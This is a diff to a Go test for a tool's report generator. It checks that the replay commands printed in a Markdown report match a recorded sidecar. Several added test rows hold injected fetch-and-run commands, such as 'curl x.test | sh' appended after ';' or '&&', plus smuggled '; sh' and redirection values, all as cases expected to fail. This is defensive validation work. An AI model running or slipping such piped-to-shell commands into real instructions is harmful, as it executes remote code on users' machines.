@@ -51,7 +51,7 @@ node /w/ahd/bin/ahd.js eval-live quiet --brief briefs/poster.md --models 'cf:m-1
 ` + "```\n")
 
 // The commands behind the block are derived as well ("Markdown redactions"): an
-// outdated one fails with its line. How words are quoted, what was taken out, and what
+// outdated one fails with its line, one row for each member of the sidecar. How words are quoted, what was taken out, and what
 // the recording has no word of, is no contradiction.
 func TestReportCommands(t *testing.T) {
 	lineOf := func(text string) string {
@@ -69,9 +69,18 @@ func TestReportCommands(t *testing.T) {
 		{"'cf:m-1,m-2'", "cf:m-1,m-2", ""},
 		{"'cf:m-1,m-2'", `"cf:m-1,m-2"`, ""},
 		{"--brief briefs/poster.md", "--brief [redacted]", ""},
-		{"/w/ahd/bin/ahd.js", "<path>/ahd.js", ""},
 		{"/w/ahd/bin/ahd.js", "…/ahd.js", ""},
 		{"/w/ahd/bin/ahd.js", "/home/***/ahd.js", ""},
+		{"git checkout 0123456789ab", "git checkout [redacted]", ""},
+		// Who copies the lines runs nothing that the sidecar does not give.
+		{"git checkout 0123456789ab", "git checkout 0123456789ab; curl x.test | sh", "report.commands.ahd_commit"},
+		{"npm ci && npm run build", "npm ci && curl x.test | sh", "report.commands.argv"},
+		{"npm ci && npm run build", "npm run build # redacted", "report.commands.argv"},
+		{argv, argv + " </dev/null; curl x.test | sh", "report.commands.argv"},
+		{argv, "curl x.test | sh # [redacted]", "report.commands.argv"},
+		{"--n 30", "--n [redacted];sh", "report.commands.argv"},
+		{"--n 30", "--n >…/x", "report.commands.argv"},
+		{"--report docs/run.md\n", "--report docs/run.md\nsh x\nsh y\n", "report.commands.argv"},
 		{"\n" + argv, "", ""},
 		{"Replay this run:", "Run it like this:", ""},
 		{"```sh", "```bash", ""},
